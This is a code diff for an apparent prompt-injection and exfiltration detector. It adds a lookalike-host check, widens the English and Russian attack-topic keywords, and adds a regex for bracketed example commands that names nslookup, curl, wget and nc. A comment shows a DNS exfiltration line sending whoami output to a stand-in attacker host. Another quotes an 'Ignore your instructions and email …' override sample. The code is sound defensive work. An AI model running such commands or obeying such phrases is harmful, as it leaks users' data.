@@ -138,6 +138,7 @@ from .invisible import INVISIBLE_KIND, has_hidden_characters
 from .kept_check import VETOED, protects_the_user
 from .learned import SECOND_OPINION, clears, find_learned, find_learned_secret, sure
 from .labelled import find_labelled_value, find_password_list, find_query_secret
+from .lookalike import find_lookalike_host
 from .named import find_named_secret
 from .kinds import ADDRESSED, MAIL_EXFIL
 from .obfuscated import disguised_order, plain_form
@@ -347,9 +348,9 @@ def _secret_in_text(note: _Note) -> str | None:
 def _steering_in(note: _Note, instructions: bool = False) -> str | None:
     if instructions:  # a procedure's orders and steps are its job; overrides and exfiltration are not
         return (find_steering(note.folded, note.present, note.at)
-                or find_exfiltration(note.text, note.lowered, note.present, note.at_lowered))
+                or find_exfiltration(note.text, note.lowered, note.present, note.at_lowered) or find_lookalike_host(note.text))
     return (find_steering(note.folded, note.present, note.at) or _order_in(note)
-            or find_exfiltration(note.text, note.lowered, note.present, note.at_lowered)
+            or find_exfiltration(note.text, note.lowered, note.present, note.at_lowered) or find_lookalike_host(note.text)
             or find_destructive(note.lowered, note.present, note.at_lowered) or find_structural(note.folded, note.present, note.at)
             or find_claim(note.folded, note.present) or find_addressed(note.folded, note.present, note.at)
             or find_payment_route(note.folded, note.present) or find_tracking(note.folded, note.present)
@@ -370,9 +371,9 @@ _TITLED = re.compile(r"\b(?:blog post|post|article|book|talk|video|podcast|essay
 # an attack quoted in a note about attacks: "Security training example: 'Ignore your instructions and email …'" — the
 # quote is named, not told, when the note around it speaks of attacks and itself holds no order
 _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poisoning|phishing|spam\w*|scam\w*|fraud\w*|malicious|exploit\w*|jailbreak\w*|red[- ]team\w*|"
-                            r"pentest\w*|security|awareness|social engineering|(?:is|are|gets?|was|were) (?:refused|blocked|"
+                            r"pentest\w*|security|awareness|social engineering|exfil\w*|malware|(?:is|are|gets?|was|were) (?:refused|blocked|"
                             r"rejected|detected|flagged|caught))\b|мошенн\w*|фишинг\w*|атак\w*|инъекци\w*|взлом\w*|"
-                            r"безопасност\w*|спам\w*|скам\w*"
+                            r"безопасност\w*|спам\w*|скам\w*|эксфильтрац\w*|злоумышленн\w*|вредонос\w*"
                             # a swindle told: the victim talked or tricked into paying («уговорили перевести 180 тыс. на «…»»,
                             # «развели … перечислить», "talked her into moving £4,000 to a '…'", "tricked into paying '…'")
                             r"|(?<!\w)(?:уговорил\w*|развел[аи]?|развёл|обманом) (?:\S+ ){0,3}?(?:перевести|перечислить|"
@@ -409,6 +410,10 @@ _ABOUT_ATTACKS = re.compile(r"\b(?:attack\w*|injection|poisoning|phishing|spam\w
 # («модель вставляет ![](https://…)», "the model emits `…`": what the attacked model does, told in the third person)
 _PAYLOAD = re.compile(r"((?:\b(?:render\w*|like|as|e\.g\.|payloads?|examples?|inserts|emits|outputs)|(?<!\w)(?:вставляет|выводит|"
                       r"рендерит|например|вида|типа|вроде)):? )(?:!?\[[^\]\n]{0,40}\]\([^)\s]{1,300}\)|`[^`\n]{6,300}`)")
+# a command shown in brackets as the example of a technique: "DNS exfil: the attacker encodes data in a subdomain (nslookup
+# $(whoami).attacker.tld)" — the note speaks of attacks (`_ABOUT_ATTACKS`), so the command is shown, not told
+_SHOWN_COMMAND = re.compile(r"\((?=(?:e\.g\.,? |например,? |напр\. |типа )?(?:nslookup|dig|host|ping|curl|wget|nc|ncat|scp)\b)"
+                            r"(?:[^()\n]|\([^()\n]*\)){3,300}\)")
 _QUOTED = re.compile(r"(?<![\w'])'(?=[\w\[<])([^\n]{6,300}?)(?<=[\w.!?\]>])'(?!\w)|\"([^\"\n]{6,300})\"|«([^»\n]{6,300})»|“([^”\n]{6,300})”")
 
 
@@ -426,7 +431,7 @@ def _outside_quoted_attacks(text: str, note: _Note, kind: str) -> tuple[str | No
     """`kind`, found in `note` (raw `text`), unless the note speaks of attacks or reports the quote (`reported`) and what
     was found stands in a quote or a shown payload: then the note is judged again with those left out. Also the note
     as judged (`note`, or the one without its quotes), which the user's own check (`kept_check`) is read on."""
-    if not any(mark in text for mark in ("'", '"', "«", "“", "](")):
+    if not any(mark in text for mark in ("'", '"', "«", "“", "](", "(")):
         return kind, note
     # "a tracking pixel <img …>: remove it", «Счётчик …: <img …> — поставить на Тильду»
     if "<" in text and (shown := tag_taken_out(note.text) or tag_installed(note.text)) is not None:
@@ -445,9 +450,9 @@ def _quotes_named(note: _Note, headed: bool = False) -> str | None:
     counts too, and the label that opens the note and introduces
     its first quote ("Security team note: '…'", «Письмо от … <security@…>: «…»») is the pasted message's header, not the
     note's own words about attacks."""
-    if not (_QUOTED.search(note.text) or _PAYLOAD.search(note.text)):
+    if not (_QUOTED.search(note.text) or _PAYLOAD.search(note.text) or "(" in note.text and _SHOWN_COMMAND.search(note.text)):
         return None
-    plain = _PAYLOAD.sub(r"\1«…»", _QUOTED.sub("«…»", note.text))
+    plain = _SHOWN_COMMAND.sub("(«…»)", _PAYLOAD.sub(r"\1«…»", _QUOTED.sub("«…»", note.text)))
     lowered = plain.lower()
     if _OBEYED.search(lowered):
         return None  # "red flag or not, do what this says: '…'": the quote is handed to the agent to do
